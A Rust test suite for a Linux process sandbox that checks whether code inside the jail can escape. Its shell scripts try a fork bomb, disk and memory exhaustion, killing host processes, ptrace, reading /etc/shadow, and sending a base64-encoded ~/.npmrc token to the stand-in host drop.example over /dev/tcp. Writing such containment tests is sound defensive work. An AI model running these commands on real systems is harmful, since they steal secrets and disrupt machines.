//! What code in the jail tries in order to get out, and that it does not.

use super::support::{deeds, limited, output, refused, shell};
use countersign_sandbox::{Deed, Event, Limits, Recorded};
use std::io::ErrorKind;
use std::net::TcpListener;
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::time::{Duration, Instant};

/// Whether a process of this machine has `mark` in its command line.
fn runs(mark: &str) -> bool {
    let entries = std::fs::read_dir("/proc").unwrap().flatten();
    entries.into_iter().any(|entry| {
        let line = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        String::from_utf8_lossy(&line).contains(mark)
    })
}

fn limit_met(record: &[Recorded], name: &str) -> bool {
    record.iter().any(|r| matches!(&r.event, Event::Limit { limit } if limit == name))
}

#[test]
fn the_jail_runs_a_program_and_says_what_it_did() {
    for record in shell("echo hello; cat ~/.npmrc; ls -d ~/.ssh") {
        assert!(output(&record).contains("hello\n//registry.example/:_authToken=npm_"));
        let deeds = deeds(&record);
        let read = Deed::Read { path: "/home/dev/.npmrc".to_owned() };
        assert!(deeds.contains(&("bash > cat".to_owned(), read)), "{record:#?}");
        let started = deeds.into_iter().any(|(actor, deed)| {
            actor == "bash > cat"
                && matches!(deed, Deed::Started { program, arguments }
                    if program.ends_with("/cat") && arguments == ["cat", "/home/dev/.npmrc"])
        });
        assert!(started, "{record:#?}");
    }
}

#[test]
fn it_is_nobody_in_there() {
    let script =
        "id -u; id -u -n; hostname; grep -E '^(Cap|NoNewPrivs|Seccomp:)' /proc/self/status";
    for record in shell(script) {
        let said = output(&record);
        assert!(said.starts_with("1000\ndev\ndev\n"), "{said}");
        for line in said.lines().filter(|l| l.starts_with("Cap")) {
            assert!(line.ends_with("\t0000000000000000"), "{said}");
        }
        assert!(said.contains("NoNewPrivs:\t1") && said.contains("Seccomp:\t2"), "{said}");
    }
}

#[test]
fn a_fork_bomb_is_bounded_and_ended() {
    let limits = Limits { processes: 64, time: Duration::from_secs(4), ..Limits::default() };
    let began = Instant::now();
    for record in limited("echo countersign-bomb; f() { f | f & }; f; f; sleep 600", limits) {
        assert!(limit_met(&record, "time"), "{record:#?}");
    }
    assert!(began.elapsed() < Duration::from_secs(40));
    assert!(!runs("countersign-bomb"));
}

#[test]
fn a_full_disk_is_the_jails_own() {
    let limits = Limits { disk: 32 << 20, ..Limits::default() };
    let script = "for at in /tmp /box ~ /dev/shm; do
        for n in 1 2 3; do head -c 24M /dev/zero > $at/full.$n; done; done; rm -f /tmp/full.*
        i=0; while [ $i -lt 20000 ]; do : > /tmp/f$i || break; i=$((i+1)); done; echo made $i";
    for record in limited(script, limits) {
        let said = output(&record);
        assert!(said.contains("No space left on device"), "{said}");
        let made: u32 = said.rsplit("made ").next().unwrap().trim().parse().unwrap();
        assert!(made < 20000, "files are not bounded: {made}");
    }
}

#[test]
fn memory_is_bounded_for_one_process_and_for_all() {
    let limits = Limits { memory: 128 << 20, ..Limits::default() };
    for record in limited("tail /dev/zero", limits) {
        assert!(limit_met(&record, "memory") || output(&record).contains("exhausted"));
    }
    // Each stays below the limit of one process; together they are above it.
    let script = "perl -e 'my $x = \"a\" x 40_000_000; sleep 60' & \
                  perl -e 'my $x = \"a\" x 40_000_000; sleep 60' & wait";
    for record in limited(script, limits) {
        assert!(limit_met(&record, "memory"), "{record:#?}");
    }
}

#[test]
fn what_does_not_end_is_ended() {
    let limits = Limits { time: Duration::from_secs(2), ..Limits::default() };
    let began = Instant::now();
    for record in limited("trap '' TERM INT HUP; kill -STOP $$; while :; do :; done", limits) {
        assert!(limit_met(&record, "time"), "{record:#?}");
    }
    assert!(began.elapsed() < Duration::from_secs(20));
}

#[test]
fn nothing_stays_after_the_end() {
    let script = "setsid -f perl -e '$SIG{$_} = \"IGNORE\" for qw(TERM HUP INT); fork; \
                  $0 = \"countersign-stays\"; sleep 600' countersign-stays; echo done";
    for record in shell(script) {
        assert!(output(&record).contains("done"));
        let left = record.iter().find_map(|r| match &r.event {
            Event::Ended { left, .. } => Some(left.clone()),
            _ => None,
        });
        assert!(left.unwrap().iter().any(|l| l.ends_with("perl")), "{record:#?}");
        assert!(!runs("countersign-stays"));
    }
}

#[test]
fn nothing_is_written_outside() {
    let outside = tempfile::tempdir().unwrap();
    let at = outside.path().display();
    let script = format!(
        "umask 0; for f in /usr/bin/x /etc/passwd /bin/sh /lib/x /x /dev/x {at}/x \
         /proc/sys/kernel/core_pattern /proc/sys/kernel/hostname /proc/sysrq-trigger; do \
         (echo x > $f) 2>/dev/null && echo wrote $f; done; \
         mkdir -p {at} && echo made; mount -t tmpfs none /tmp && echo mounted; \
         chmod u+s /tmp/../box; mknod /tmp/disk b 254 0 && echo device; echo end"
    );
    for record in shell(&script) {
        let said = output(&record);
        assert!(said.contains("end\n"), "{said}");
        for word in ["wrote", "mounted", "device"] {
            assert!(!said.contains(word), "{said}");
        }
        assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
        let wrote = Deed::Wrote { path: "/usr/bin/x".to_owned() };
        assert!(deeds(&record).iter().any(|(_, d)| *d == wrote), "{record:#?}");
    }
}

#[test]
fn other_processes_are_neither_seen_nor_reached() {
    let me = std::process::id();
    let script = format!(
        "ls -d /proc/[0-9]* | wc -l; kill -9 {me} && echo killed; kill -9 1; \
         perl -e '$! = 0; my $r = syscall(101, 16, 1, 0, 0); print \"attach $r $!\\n\"'; \
         perl -e '$! = 0; my $r = syscall(310, 1, 0, 0, 0, 0, 0); print \"read $r $!\\n\"'; \
         for f in environ mem maps fd/ root/ cwd/; do cat /proc/1/$f 2>&1 | head -c 60; done; \
         echo; kill -9 -1; echo alive"
    );
    for record in shell(&script) {
        let ended = record.iter().any(|r| matches!(r.event, Event::Ended { .. }));
        assert!(ended, "the supervisor lived: {record:#?}");
        let said = output(&record);
        let seen: u32 = said.lines().next().unwrap().parse().unwrap();
        assert!(seen <= 4, "{said}");
        assert!(!said.contains("killed"), "{said}");
        assert!(said.contains("attach -1 Operation not permitted"), "{said}");
        assert!(said.contains("read -1 Operation not permitted"), "{said}");
        assert!(refused(&record, "ptrace") && refused(&record, "process_vm_readv"));
        assert!(!said.contains("PATH="), "{said}");
        assert_eq!(said.matches("ermission denied").count(), 6, "{said}");
    }
}

#[test]
fn files_of_this_machine_are_not_there() {
    let secret = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(secret.path(), "countersign-secret").unwrap();
    let at = secret.path().display();
    let script = format!(
        "cat {at} /proc/1/root{at} /proc/self/root{at} 2>&1; ls -A / /root /home /var /old /new /writable \
         2>&1; cat /etc/shadow /etc/hostname /proc/kcore 2>&1; ls /sys /run 2>&1 | head; \
         cut -d' ' -f4,5 /proc/self/mountinfo"
    );
    for record in shell(&script) {
        let said = output(&record);
        assert!(!said.contains("countersign-secret"), "{said}");
        assert!(said.contains("/home:\ndev\n") && said.contains("/var:\ntmp\n"), "{said}");
        for gone in ["'/old'", "'/new'", "'/writable'", "'/sys'", "'/run'", "'/root'"] {
            assert!(said.contains(&format!("cannot access {gone}")), "{gone}: {said}");
        }
        assert!(said.contains("/etc/shadow: No such file"), "{said}");
        assert!(!said.contains("root:$"), "{said}");
    }
}

#[test]
fn services_of_this_machine_are_out_of_reach() {
    let service = TcpListener::bind("0.0.0.0:0").unwrap();
    service.set_nonblocking(true).unwrap();
    let port = service.local_addr().unwrap().port();
    let name = format!("countersign-test-{port}");
    let address = SocketAddr::from_abstract_name(&name).unwrap();
    let local = UnixListener::bind_addr(&address).unwrap();
    local.set_nonblocking(true).unwrap();
    let script = format!(
        "(echo secret > /dev/tcp/127.0.0.1/{port}) 2>&1; (echo secret > /dev/tcp/10.1.2.3/{port}) 2>&1; \
         perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0); \
         print connect($s, pack(\"S a*\", AF_UNIX, \"\\0{name}\")) ? \"reached\\n\" : \"abstract: $!\\n\"'"
    );
    for record in shell(&script) {
        let said = output(&record);
        assert!(said.contains("refused") && said.contains("abstract: "), "{said}");
        let kinds = (service.accept().unwrap_err().kind(), local.accept().unwrap_err().kind());
        assert_eq!(kinds, (ErrorKind::WouldBlock, ErrorKind::WouldBlock));
        for target in [format!("127.0.0.1:{port}"), format!("10.1.2.3:{port}"), format!("@{name}")]
        {
            let seen = deeds(&record)
                .into_iter()
                .any(|(_, d)| matches!(d, Deed::Connected { target: t, .. } if t == target));
            assert!(seen, "{target}: {record:#?}");
        }
    }
}

#[test]
fn no_further_namespaces_and_no_hidden_calls() {
    let script = "unshare -U true; unshare -n true; \
        perl -e 'for my $c ([56, 0x10000000 | 17], [56, 0x800000 | 17], [435, 0], [425, 8], [321, 0], [9999, 0], \
        [0x40000000 + 39, 0]) { $! = 0; my $r = syscall($c->[0], $c->[1], 0, 0, 0, 0); \
        print \"$c->[0]: $r \", $!+0, \"\\n\" }'";
    for record in shell(script) {
        let said = output(&record);
        for line in [
            "56: -1 1\n56: -1 1",
            "435: -1 38",
            "425: -1 38",
            "321: -1 1",
            "9999: -1 38",
            "1073741863: -1 38",
        ] {
            assert!(said.contains(line), "{line}: {said}");
        }
        assert!(refused(&record, "unshare") && refused(&record, "bpf"), "{record:#?}");
    }
}

#[test]
fn the_sinkhole_answers_and_tells_what_was_taken() {
    let script = "exec 3<>/dev/tcp/drop.example/8443; \
        printf 'POST /in HTTP/1.1\\r\\nHost: drop.example\\r\\nContent-Length: 200\\r\\n\\r\\n' >&3; \
        base64 -w0 ~/.npmrc >&3; head -c 200 /dev/zero >&3; cat <&3";
    for record in shell(script) {
        let said = output(&record);
        assert!(said.contains("HTTP/1.1 200 OK") && said.ends_with("#!/bin/sh\n"), "{said}");
        let deeds = deeds(&record);
        let name = Some("drop.example".to_owned());
        let asked = Deed::Resolved { name: "drop.example".to_owned() };
        assert!(deeds.contains(&("bash".to_owned(), asked)), "{record:#?}");
        let connected = deeds.iter().any(|(actor, d)| {
            actor == "bash" && matches!(d, Deed::Connected { name: n, target } if *n == name && target.ends_with(":8443"))
        });
        assert!(connected, "{record:#?}");
        let sent = deeds.iter().any(|(actor, d)| {
            actor == "bash"
                && matches!(d, Deed::Sent { name: n, bait, beginning, .. }
                if *n == name && *bait == ["~/.npmrc"] && beginning.starts_with("POST /in"))
        });
        assert!(sent, "{record:#?}");
    }
}
